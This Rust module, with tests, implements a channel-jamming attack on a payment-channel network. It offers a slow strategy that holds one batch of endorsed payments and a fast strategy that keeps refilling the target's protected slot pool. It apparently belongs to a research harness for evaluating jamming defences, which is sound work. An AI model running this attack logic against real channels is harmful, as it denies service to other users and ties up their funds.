//! # Protected-Slot Jamming
//!
//! Two strategies occupy the target's protected pool once we have reputation to
//! enter it. Both follow the same dispatch, wait and cancel contract, so the
//! orchestrator does not care which one runs.
//!
//! - **Slow**: one pool's worth of payments held for as long as the route's
//!   time lock safely allows, then collected in dispatch order
//! - **Fast**: one pool's worth of payments with a short hold, each replaced
//!   as soon as it resolves, until the attack duration has elapsed
//!
//! The fast strategy keeps occupancy constant without long holds, at the price
//! of many more payments.

use crate::hold::safe_hold_duration;
use crate::payment::{JamPair, PaymentRequest, PaymentResult, PendingPayment};
use crate::wait::wait_for_jams;
use crate::{
    AttackContext, AttackError, AttackResult, PaymentReport, PhaseExt, Route, ShortChannelId,
    SINK_NODE, SOURCE_NODE,
};
use async_trait::async_trait;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use tokio::sync::mpsc;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;
use tracing::{debug, info, warn};

/// Protected-slot jamming strategy, fixed once per run
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum JamStrategy {
    /// One long-held batch
    Slow,
    /// Short holds, refilled continuously
    #[default]
    Fast,
}

impl JamStrategy {
    /// Build the jammer for this strategy over `route`, whose final hop uses
    /// `channel`.
    pub fn jammer(self, route: Route, channel: ShortChannelId) -> ProtectedJammer {
        match self {
            JamStrategy::Slow => ProtectedJammer::Slow(SlowJammer::new(route, channel)),
            JamStrategy::Fast => ProtectedJammer::Fast(FastJammer::new(route)),
        }
    }
}

impl FromStr for JamStrategy {
    type Err = AttackError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "slow" => Ok(JamStrategy::Slow),
            "fast" => Ok(JamStrategy::Fast),
            other => Err(AttackError::InvalidConfig(format!(
                "unknown jam strategy: {other} (expected slow or fast)"
            ))),
        }
    }
}

impl fmt::Display for JamStrategy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            JamStrategy::Slow => write!(f, "slow"),
            JamStrategy::Fast => write!(f, "fast"),
        }
    }
}

/// Contract shared by the protected-slot jamming strategies
#[async_trait]
pub trait ProtectedJam: Send {
    /// Put the jam in place.
    async fn dispatch(&mut self, ctx: &AttackContext) -> AttackResult<()>;

    /// Block until the jam is over and every payment it launched has resolved.
    async fn wait(&mut self, ctx: &AttackContext) -> AttackResult<PaymentReport>;

    /// Release every payment of the jam early. Safe to call more than once.
    fn cancel(&self);
}

/// One pool's worth of long-held protected jams
pub struct SlowJammer {
    route: Route,
    channel: ShortChannelId,
    batch: CancellationToken,
    jams: Vec<JamPair>,
}

impl SlowJammer {
    pub fn new(route: Route, channel: ShortChannelId) -> Self {
        Self {
            route,
            channel,
            batch: CancellationToken::new(),
            jams: Vec::new(),
        }
    }

    /// Jams dispatched and not yet collected.
    pub fn pending(&self) -> usize {
        self.jams.len()
    }
}

#[async_trait]
impl ProtectedJam for SlowJammer {
    async fn dispatch(&mut self, ctx: &AttackContext) -> AttackResult<()> {
        let hold =
            safe_hold_duration(ctx, &self.route, SOURCE_NODE, ctx.config().protected_hold()).await?;
        let amount = self.route.delivered_amount_msat();
        let count = ctx.slots().protected_count();
        let log_interval = ctx.config().progress_log_interval as usize;

        for i in 0..count {
            if i % log_interval == 0 && i != 0 {
                debug!("Sent {i} protected jams");
            }

            let request = PaymentRequest::held(amount, SOURCE_NODE, SINK_NODE, true, hold)
                .with_early_cancel(self.batch.child_token());
            let pending = ctx
                .dispatch(request.clone(), &self.route)
                .await
                .in_phase(format!("protected jam {i}"))?;

            self.jams.push(JamPair { request, pending });
        }

        info!(
            "Dispatched: {} protected slow jams over: {} held for {:?}",
            self.jams.len(),
            self.channel,
            hold
        );
        Ok(())
    }

    async fn wait(&mut self, ctx: &AttackContext) -> AttackResult<PaymentReport> {
        let jams = std::mem::take(&mut self.jams);
        info!("Waiting for: {} protected slow jams", jams.len());

        let report = wait_for_jams(jams, ctx.shutdown()).await?;
        info!("Protected jams: {report}");
        Ok(report)
    }

    fn cancel(&self) {
        self.batch.cancel();
    }
}

/// Outcome of one fast jam, delivered to the refill loop.
type Completion = AttackResult<PaymentResult>;

/// Launches fast jams and watches them; cloned into every refill task.
#[derive(Clone)]
struct JamLauncher {
    ctx: AttackContext,
    route: Arc<Route>,
    cancel_all: CancellationToken,
    in_flight: Arc<AtomicUsize>,
    dispatched: Arc<AtomicUsize>,
    completions: mpsc::UnboundedSender<Completion>,
    tracker: TaskTracker,
}

impl JamLauncher {
    async fn dispatch(&self) -> AttackResult<PendingPayment> {
        let request = PaymentRequest::held(
            self.route.delivered_amount_msat(),
            SOURCE_NODE,
            SINK_NODE,
            true,
            self.ctx.config().fast_jam_wait(),
        )
        .with_early_cancel(self.cancel_all.clone());

        let pending = self.ctx.dispatch(request, &self.route).await?;
        self.in_flight.fetch_add(1, Ordering::SeqCst);
        self.dispatched.fetch_add(1, Ordering::SeqCst);
        Ok(pending)
    }

    /// Report the jam's result to the refill loop unless the jam is over.
    async fn watch(self, pending: PendingPayment) {
        let outcome = tokio::select! {
            biased;
            _ = self.ctx.shutdown().cancelled() => None,
            outcome = pending => Some(outcome),
        };
        self.in_flight.fetch_sub(1, Ordering::SeqCst);

        if let Some(outcome) = outcome {
            if !self.cancel_all.is_cancelled() {
                let _ = self.completions.send(outcome);
            }
        }
    }

    /// Dispatch one jam and watch it in a tracked task.
    async fn launch(&self) -> AttackResult<()> {
        let pending = self.dispatch().await?;
        self.tracker.spawn(self.clone().watch(pending));
        Ok(())
    }

    /// Dispatch and watch a replacement jam without blocking the caller. A
    /// replacement that cannot be dispatched ends the jam with its error.
    fn relaunch(&self) {
        let launcher = self.clone();
        self.tracker.spawn(async move {
            if launcher.cancel_all.is_cancelled() {
                return;
            }

            match launcher.dispatch().await {
                Ok(pending) => launcher.watch(pending).await,
                Err(e) => {
                    warn!("Could not launch fast jam: {e}");
                    let _ = launcher.completions.send(Err(e.in_phase("refill")));
                }
            }
        });
    }
}

/// Steady-state protected jam that refills the pool as payments resolve
pub struct FastJammer {
    route: Arc<Route>,
    cancel_all: CancellationToken,
    tracker: TaskTracker,
    in_flight: Arc<AtomicUsize>,
    dispatched: Arc<AtomicUsize>,
    launcher: Option<JamLauncher>,
    completions: Option<mpsc::UnboundedReceiver<Completion>>,
    deadline: Option<Instant>,
}

impl FastJammer {
    pub fn new(route: Route) -> Self {
        Self {
            route: Arc::new(route),
            cancel_all: CancellationToken::new(),
            tracker: TaskTracker::new(),
            in_flight: Arc::new(AtomicUsize::new(0)),
            dispatched: Arc::new(AtomicUsize::new(0)),
            launcher: None,
            completions: None,
            deadline: None,
        }
    }

    /// Jams dispatched whose result has not come back.
    pub fn in_flight(&self) -> usize {
        self.in_flight.load(Ordering::SeqCst)
    }

    /// Shared handle to the in-flight count, readable while the jam runs.
    pub fn in_flight_counter(&self) -> Arc<AtomicUsize> {
        self.in_flight.clone()
    }

    /// Jams the executor has accepted so far.
    pub fn dispatched(&self) -> usize {
        self.dispatched.load(Ordering::SeqCst)
    }

    async fn join(&self) {
        self.cancel_all.cancel();
        info!("Waiting for fast jams to complete");
        self.tracker.close();
        self.tracker.wait().await;
    }
}

#[async_trait]
impl ProtectedJam for FastJammer {
    async fn dispatch(&mut self, ctx: &AttackContext) -> AttackResult<()> {
        let config = ctx.config();
        let (sender, receiver) = mpsc::unbounded_channel();

        let launcher = JamLauncher {
            ctx: ctx.clone(),
            route: self.route.clone(),
            cancel_all: self.cancel_all.clone(),
            in_flight: self.in_flight.clone(),
            dispatched: self.dispatched.clone(),
            completions: sender,
            tracker: self.tracker.clone(),
        };
        self.launcher = Some(launcher.clone());
        self.completions = Some(receiver);

        for i in 0..ctx.slots().protected_count() {
            if let Err(e) = launcher.launch().await {
                self.launcher = None;
                self.join().await;
                return Err(e.in_phase(format!("fast jam {i}")));
            }

            // Pause so that the initial batch does not resolve all at once.
            if i % config.ramp_batch_size == 0 && i != 0 {
                debug!("Introducing delay between initial jams: {i}");
                tokio::select! {
                    biased;
                    _ = ctx.shutdown().cancelled() => {
                        self.launcher = None;
                        self.join().await;
                        return Err(AttackError::Cancelled);
                    }
                    _ = tokio::time::sleep(config.ramp_pause()) => {}
                }
            }
        }

        // The attack duration counts from the point where the pool is full.
        self.deadline = Some(Instant::now() + config.protected_hold());
        info!(
            "Dispatched initial set of {} protected fast jamming payments",
            self.dispatched()
        );
        Ok(())
    }

    async fn wait(&mut self, ctx: &AttackContext) -> AttackResult<PaymentReport> {
        let (Some(launcher), Some(mut completions)) = (self.launcher.take(), self.completions.take())
        else {
            return Ok(PaymentReport::with_dispatched(self.dispatched()));
        };
        let mut report = PaymentReport::default();

        let deadline = self.deadline.unwrap_or_else(Instant::now);
        let progress_interval = ctx.config().progress_log_interval as usize;
        let end = tokio::time::sleep_until(deadline);
        tokio::pin!(end);

        let outcome = loop {
            tokio::select! {
                biased;
                _ = ctx.shutdown().cancelled() => break Err(AttackError::Cancelled),
                _ = self.cancel_all.cancelled() => {
                    info!("Fast jam cancelled");
                    break Ok(());
                }
                _ = &mut end => {
                    info!("Reached end of jamming attack");
                    break Ok(());
                }
                completion = completions.recv() => {
                    let Some(completion) = completion else {
                        break Ok(());
                    };

                    let index = report.classified();
                    let recorded = completion
                        .and_then(|result| {
                            result.check_error()?;
                            report.record(index, &result)
                        })
                        .in_phase(format!("fast jam {index}"));
                    if let Err(e) = recorded {
                        break Err(e);
                    }

                    launcher.relaunch();
                    if report.classified() % progress_interval == 0 {
                        info!("Completed: {} fast jams", report.classified());
                    }
                }
            }
        };

        drop(launcher);
        self.join().await;
        outcome?;

        // Only launches the executor accepted.
        report.dispatched = self.dispatched();

        info!("Protected fast jams: {report}");
        Ok(report)
    }

    fn cancel(&self) {
        self.cancel_all.cancel();
    }
}

/// The strategy chosen for a run
pub enum ProtectedJammer {
    Slow(SlowJammer),
    Fast(FastJammer),
}

impl ProtectedJammer {
    pub fn strategy(&self) -> JamStrategy {
        match self {
            ProtectedJammer::Slow(_) => JamStrategy::Slow,
            ProtectedJammer::Fast(_) => JamStrategy::Fast,
        }
    }
}

#[async_trait]
impl ProtectedJam for ProtectedJammer {
    async fn dispatch(&mut self, ctx: &AttackContext) -> AttackResult<()> {
        match self {
            ProtectedJammer::Slow(jammer) => jammer.dispatch(ctx).await,
            ProtectedJammer::Fast(jammer) => jammer.dispatch(ctx).await,
        }
    }

    async fn wait(&mut self, ctx: &AttackContext) -> AttackResult<PaymentReport> {
        match self {
            ProtectedJammer::Slow(jammer) => jammer.wait(ctx).await,
            ProtectedJammer::Fast(jammer) => jammer.wait(ctx).await,
        }
    }

    fn cancel(&self) {
        match self {
            ProtectedJammer::Slow(jammer) => jammer.cancel(),
            ProtectedJammer::Fast(jammer) => jammer.cancel(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_utils::{default_reply, FakeExecutor, Harness, Reply};
    use std::time::Duration;

    const PROTECTED: usize = 241;

    #[test]
    fn test_strategy_parsing() {
        assert_eq!("slow".parse::<JamStrategy>().unwrap(), JamStrategy::Slow);
        assert_eq!(" FAST ".parse::<JamStrategy>().unwrap(), JamStrategy::Fast);
        assert!("medium".parse::<JamStrategy>().is_err());
        assert_eq!(JamStrategy::default(), JamStrategy::Fast);
        assert_eq!(JamStrategy::Slow.to_string(), "slow");
    }

    #[tokio::test(start_paused = true)]
    async fn test_slow_jam_holds_protected_pool() {
        let harness = Harness::new(FakeExecutor::holding());
        let mut jammer = JamStrategy::Slow.jammer(harness.route_to_sink(), ShortChannelId(7));
        assert_eq!(jammer.strategy(), JamStrategy::Slow);

        let started = Instant::now();
        jammer.dispatch(&harness.ctx).await.unwrap();
        assert_eq!(harness.executor.in_flight(), PROTECTED);

        let report = jammer.wait(&harness.ctx).await.unwrap();
        assert_eq!(report.dispatched, PROTECTED);
        assert_eq!(report.reached_destination, PROTECTED);
        assert_eq!(started.elapsed(), Duration::from_secs(600));

        let dispatched = harness.executor.dispatched();
        assert!(dispatched.iter().all(|r| r.endorse_outgoing && r.source == 0 && r.dest == 2));
    }

    #[tokio::test(start_paused = true)]
    async fn test_slow_jam_cancel_releases_batch() {
        let harness = Harness::new(FakeExecutor::holding());
        let mut jammer = SlowJammer::new(harness.route_to_sink(), ShortChannelId(7));
        jammer.dispatch(&harness.ctx).await.unwrap();
        assert_eq!(jammer.pending(), PROTECTED);

        jammer.cancel();
        jammer.cancel();

        let started = Instant::now();
        let report = jammer.wait(&harness.ctx).await.unwrap();
        assert_eq!(report.classified(), PROTECTED);
        assert!(started.elapsed() < Duration::from_secs(1));
    }

    #[tokio::test(start_paused = true)]
    async fn test_slow_jam_surfaces_anomaly() {
        let harness = Harness::new(FakeExecutor::new(|request, index| {
            if index == 10 {
                Reply::Resolve(PaymentResult::failed_at(0, true))
            } else {
                default_reply(request)
            }
        }));
        let mut jammer = SlowJammer::new(harness.route_to_sink(), ShortChannelId(7));
        jammer.dispatch(&harness.ctx).await.unwrap();

        let err = jammer.wait(&harness.ctx).await.unwrap_err();
        assert!(matches!(err.root(), AttackError::Attribution(_)));

        jammer.cancel();
        harness.executor.join().await;
    }

    #[tokio::test(start_paused = true)]
    async fn test_fast_jam_keeps_pool_full() {
        let harness = Harness::new(FakeExecutor::holding());
        let mut jammer = FastJammer::new(harness.route_to_sink());
        let in_flight = jammer.in_flight_counter();

        let started = Instant::now();
        let ctx = harness.ctx.clone();
        let run = tokio::spawn(async move {
            jammer.dispatch(&ctx).await?;
            let report = jammer.wait(&ctx).await?;
            Ok::<_, AttackError>((report, jammer.in_flight()))
        });

        // Ramp-up ends at 20s; the first completions are replaced from 60s.
        for at in [21, 62, 183, 542] {
            tokio::time::sleep_until(started + Duration::from_secs(at)).await;
            assert_eq!(in_flight.load(Ordering::SeqCst), PROTECTED, "at {at}s");
            assert_eq!(harness.executor.in_flight(), PROTECTED, "at {at}s");
        }

        let (report, remaining) = run.await.unwrap().unwrap();
        assert_eq!(remaining, 0);
        assert_eq!(report.dispatched, harness.executor.dispatch_count());
        assert_eq!(in_flight.load(Ordering::SeqCst), 0);
        assert_eq!(harness.executor.in_flight(), 0);
        assert!(report.dispatched > PROTECTED);
        assert!(report.classified() < report.dispatched);
        assert!(started.elapsed() >= Duration::from_secs(620));
    }

    #[tokio::test(start_paused = true)]
    async fn test_fast_jam_ramp_pauses() {
        let harness = Harness::new(FakeExecutor::holding());
        let mut jammer = FastJammer::new(harness.route_to_sink());

        let started = Instant::now();
        jammer.dispatch(&harness.ctx).await.unwrap();
        // Pauses after launches 50, 100, 150 and 200.
        assert_eq!(started.elapsed(), Duration::from_secs(20));
        assert_eq!(jammer.in_flight(), PROTECTED);

        jammer.cancel();
        let report = jammer.wait(&harness.ctx).await.unwrap();
        assert_eq!(report.dispatched, PROTECTED);
        assert_eq!(jammer.in_flight(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn test_fast_jam_hard_error_aborts() {
        let harness = Harness::new(FakeExecutor::new(|request, index| {
            if index == 300 {
                Reply::Resolve(PaymentResult::hard_error("payment stream closed"))
            } else {
                default_reply(request)
            }
        }));
        let mut jammer = FastJammer::new(harness.route_to_sink());

        jammer.dispatch(&harness.ctx).await.unwrap();
        let err = jammer.wait(&harness.ctx).await.unwrap_err();

        assert!(matches!(err.root(), AttackError::Payment(_)));
        assert_eq!(jammer.in_flight(), 0);
        assert_eq!(harness.executor.in_flight(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn test_fast_jam_rejected_refill_is_fatal() {
        let harness = Harness::new(FakeExecutor::new(|request, index| {
            if index >= PROTECTED {
                Reply::Reject("too many pending payments".to_string())
            } else {
                default_reply(request)
            }
        }));
        let mut jammer = FastJammer::new(harness.route_to_sink());

        let started = Instant::now();
        jammer.dispatch(&harness.ctx).await.unwrap();
        assert_eq!(jammer.dispatched(), PROTECTED);

        let err = jammer.wait(&harness.ctx).await.unwrap_err();
        assert!(matches!(err.root(), AttackError::Dispatch(_)), "{err}");
        // The first refill fails as soon as the first jam resolves.
        assert!(started.elapsed() < Duration::from_secs(620));
        assert_eq!(jammer.dispatched(), PROTECTED);
        assert_eq!(jammer.in_flight(), 0);
        assert_eq!(harness.executor.in_flight(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn test_fast_jam_rejected_initial_launch_is_fatal() {
        let harness = Harness::new(FakeExecutor::new(|request, index| {
            if index == 100 {
                Reply::Reject("peer disconnected".to_string())
            } else {
                default_reply(request)
            }
        }));
        let mut jammer = FastJammer::new(harness.route_to_sink());

        let err = jammer.dispatch(&harness.ctx).await.unwrap_err();
        assert!(matches!(err.root(), AttackError::Dispatch(_)));
        assert!(err.to_string().starts_with("fast jam 100"), "{err}");

        // Jams already launched are released and joined.
        assert_eq!(jammer.dispatched(), 100);
        assert_eq!(jammer.in_flight(), 0);
        assert_eq!(harness.executor.in_flight(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn test_fast_jam_run_cancellation() {
        let harness = Harness::new(FakeExecutor::holding());
        let mut jammer = FastJammer::new(harness.route_to_sink());
        jammer.dispatch(&harness.ctx).await.unwrap();

        let shutdown = harness.ctx.shutdown().clone();
        tokio::spawn(async move {
            tokio::time::sleep(Duration::from_secs(90)).await;
            shutdown.cancel();
        });

        let err = jammer.wait(&harness.ctx).await.unwrap_err();
        assert!(matches!(err, AttackError::Cancelled));
        assert_eq!(jammer.in_flight(), 0);

        harness.executor.join().await;
        assert_eq!(harness.executor.in_flight(), 0);
    }
}
